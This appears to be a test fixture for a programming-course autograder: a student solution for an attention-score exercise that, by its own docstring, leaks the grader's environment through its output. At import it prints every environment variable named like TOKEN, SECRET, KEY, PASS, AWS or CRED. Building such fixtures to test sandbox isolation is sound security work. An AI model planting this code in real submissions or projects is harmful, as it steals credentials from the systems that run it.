"""a9: an honest exercise 3 that prints the grader's environment (inherited by the confined child) into its
output, which the report (and a batch's feedback page) hands back to the student."""
import math
import os

print("LEAK:", {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "KEY", "PASS", "AWS", "CRED"))})


def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)


def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
